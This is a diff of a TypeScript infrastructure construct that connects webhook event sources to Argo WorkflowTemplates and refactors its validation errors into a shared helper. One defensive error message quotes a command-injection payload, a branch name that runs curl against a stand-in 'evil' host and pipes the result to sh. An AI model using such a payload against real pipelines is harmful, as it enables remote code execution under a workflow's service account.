@@ -1,14 +1,16 @@
 import { Construct } from 'constructs';
 import { ProfileWorkflowTemplate } from '../kubeflow/profile-workflow-template';
 import { ShellSink } from '../kubeflow/shell-sinks';
-import { Platform } from '../platform';
+import { Platform, resolvePlatform } from '../platform';
 import {
-  checkBoolean, checkDnsLabel, checkDnsSubdomain, checkKnownKeys, checkList, checkNamespace, propNames, requireString, samePlatform, snapshotProps, ValidationError, Where,
+  checkBoolean, checkDnsLabel, checkDnsSubdomain, checkKnownKeys, checkList, checkNamespace, fail, propNames, requireString, snapshotProps, ValidationError, Where, whereIn,
 } from '../validation';
 import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
 import { EventField } from './event-field';
 import { SensorObject, TriggerParameter } from './events-api';
 import { WebhookEventSource } from './webhook-event-source';
+
+const at = whereIn('WorkflowTrigger');
 
 /** A WorkflowTemplate given by name instead of as a construct. */
 export interface WorkflowTemplateReference {
@@ -136,35 +138,34 @@ export class WorkflowTrigger extends Construct {
     // A construct whose props are refused leaves the tree as it was (it removes itself).
     try {
       props = snapshotProps('WorkflowTrigger', props);
-      const where = (prop: string): Where => ({ owner: 'WorkflowTrigger', prop });
-      if (!props) throw new ValidationError('WorkflowTrigger', 'props', props, 'are required', 'pass { eventSource, template }');
-      checkKnownKeys(where(''), props, PROPS);
+      if (!props) fail(at('props'), props, 'are required', 'pass { eventSource, template }');
+      checkKnownKeys(at(''), props, PROPS);
       const source = props.eventSource;
       if (!(source instanceof WebhookEventSource)) {
-        throw new ValidationError('WorkflowTrigger', 'eventSource', typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
+        fail(at('eventSource'), typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
       }
-      this.platform = samePlatform(where('platform'), props.platform, source.platform, 'eventSource');
-      const submitFrom = checkBoolean(where('submitFrom'), props.submitFrom ?? false);
+      this.platform = resolvePlatform(at('platform'), props.platform, this, { platform: source.platform, from: 'eventSource' });
+      const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
       if (submitFrom && !this.platform.spec.argoEvents.submitFrom) {
-        throw new ValidationError('WorkflowTrigger', 'submitFrom', true,
+        fail(at('submitFrom'), true,
           `is not available on platform ${this.platform.id} (${this.platform.spec.argoEvents.release} has no submit-from operation)`,
           'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
       }
       if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
-        throw new ValidationError('WorkflowTrigger', 'submitFrom', true, 'cannot pass event fields as workflow parameters (parameters is set)',
+        fail(at('submitFrom'), true, 'cannot pass event fields as workflow parameters (parameters is set)',
           'leave submitFrom off to map parameters, or drop parameters');
       }
       const eventName = props.eventName ?? source.eventNames[0];
       if (!source.eventNames.includes(eventName)) {
-        throw new ValidationError('WorkflowTrigger', 'eventName', eventName,
+        fail(at('eventName'), eventName,
           `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
       }
 
       const template = resolveTemplate(this, props.template);
       this.templateName = template.name;
-      this.targetNamespace = checkNamespace(where('namespace'), props.namespace ?? template.namespace);
+      this.targetNamespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
       if (this.targetNamespace !== template.namespace) {
-        throw new ValidationError('WorkflowTrigger', 'namespace', this.targetNamespace,
+        fail(at('namespace'), this.targetNamespace,
           `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
           'leave namespace out, or pass the template of that namespace');
       }
@@ -173,17 +174,17 @@ export class WorkflowTrigger extends Construct {
       let serviceAccountName = 'operate-workflow-sa';
       if (props.rbac !== undefined) {
         if (!(props.rbac instanceof ArgoEventsRbac)) {
-          throw new ValidationError('WorkflowTrigger', 'rbac', typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
+          fail(at('rbac'), typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
         }
         if (props.rbac.namespace !== sensorNamespace) {
-          throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.namespace,
+          fail(at('rbac'), props.rbac.namespace,
             `puts the ServiceAccount in "${props.rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
             'put ArgoEventsRbac in the event source namespace');
         }
         const needed = workflowVerbs([submitFrom ? 'submit-from' : 'submit']);
         const granted = workflowVerbs(props.rbac.operations);
         if (!needed.every((v) => granted.includes(v))) {
-          throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.operations,
+          fail(at('rbac'), props.rbac.operations,
             `does not grant the verbs ${submitFrom ? 'submit-from' : 'submit'} needs on workflows (${needed.join(', ')})`,
             `add "${submitFrom ? 'submit-from' : 'submit'}" to ArgoEventsRbac operations`);
         }
@@ -192,36 +193,36 @@ export class WorkflowTrigger extends Construct {
 
       const params = props.parameters ?? {};
       if (params === null || typeof params !== 'object' || Array.isArray(params)) {
-        throw new ValidationError('WorkflowTrigger', 'parameters', params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
+        fail(at('parameters'), params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
       }
       const paramNames = Object.keys(params).sort();
       for (const p of paramNames) {
         if (template.parameterNames && !template.parameterNames.includes(p)) {
-          throw new ValidationError('WorkflowTrigger', `parameters.${p}`, p,
+          fail(at(`parameters.${p}`), p,
             `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
             'declare it in the template\'s arguments.parameters or map one of the declared names');
         }
         if (!(params[p] instanceof EventField)) {
-          throw new ValidationError('WorkflowTrigger', `parameters.${p}`, params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
+          fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
         }
       }
-      const allowShell = checkBoolean(where('allowShellInterpolation'), props.allowShellInterpolation ?? false);
+      const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
       const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
       if (sink) {
-        throw new ValidationError('WorkflowTrigger', `parameters.${sink.parameter}`, params[sink.parameter].description,
+        fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
           `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
           'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
       }
-      const branches = props.branches === undefined ? undefined : checkList(where('branches'), props.branches, checkBranch);
+      const branches = props.branches === undefined ? undefined : checkList(at('branches'), props.branches, checkBranch);
       if (branches && source.type === 'webhook') {
-        throw new ValidationError('WorkflowTrigger', 'branches', branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
+        fail(at('branches'), branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
       }
 
       // the Sensor's account may act in the target namespace, and (without clusterWide) only there
       props.rbac?.grantIn(this.targetNamespace);
 
       const defaultName = `${source.name}-${template.name}`;
-      this.name = checkDnsLabel(where('name'), props.name ?? defaultName);
+      this.name = checkDnsLabel(at('name'), props.name ?? defaultName);
       this.dependencyName = `${source.name}-${eventName}`;
 
       const parameters: TriggerParameter[] = paramNames.map((p, i) => ({
@@ -305,7 +306,7 @@ function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | Workflow
   const where = { owner: 'WorkflowTrigger', prop: 'template' };
   if (t instanceof ProfileWorkflowTemplate) return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames, shellSinks: (p) => t.shellSinks(p) };
   if (!t || typeof t !== 'object') {
-    throw new ValidationError('WorkflowTrigger', 'template', t, 'must be a ProfileWorkflowTemplate or { name, namespace }', 'pass the template construct');
+    fail(at('template'), t, 'must be a ProfileWorkflowTemplate or { name, namespace }', 'pass the template construct');
   }
   checkKnownKeys(where, t, ['name', 'namespace', 'parameterNames', 'external']);
   checkDnsSubdomain({ ...where, prop: 'template.name' }, t.name);
@@ -315,7 +316,7 @@ function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | Workflow
   const found = all.find((c) => c.name === t.name && c.namespace === t.namespace);
   if (!found && !external) {
     const same = all.filter((c) => c.namespace === t.namespace).map((c) => `"${c.name}"`);
-    throw new ValidationError('WorkflowTrigger', 'template.name', t.name,
+    fail(at('template.name'), t.name,
       `names no WorkflowTemplate in namespace "${t.namespace}" of this app (${same.length ? `it has ${same.join(', ')}` : 'it has none'})`,
       'pass the ProfileWorkflowTemplate itself, fix the name, or set external: true for a template managed elsewhere');
   }
@@ -332,7 +333,7 @@ function resolveField(field: EventField, source: WebhookEventSource, param: stri
     return field.resolve(source.type);
   } catch (e) {
     if (e instanceof ValidationError) {
-      throw new ValidationError('WorkflowTrigger', `parameters.${param}`, field.description, `cannot be read from a ${source.type} event: ${e.message}`,
+      fail(at(`parameters.${param}`), field.description, `cannot be read from a ${source.type} event: ${e.message}`,
         'use EventField.path("body.<field>") for generic webhooks');
     }
     throw e;
@@ -342,7 +343,7 @@ function resolveField(field: EventField, source: WebhookEventSource, param: stri
 function checkBranch(where: Where, value: unknown): string {
   requireString(where, value);
   if (value.startsWith('refs/') || /[\s~^:?*[\\]/.test(value) || value.includes('..')) {
-    throw new ValidationError(where.owner, where.prop, value, 'must be a plain branch name (without refs/heads/)', 'use e.g. "main"');
+    fail(where, value, 'must be a plain branch name (without refs/heads/)', 'use e.g. "main"');
   }
   return value;
 }
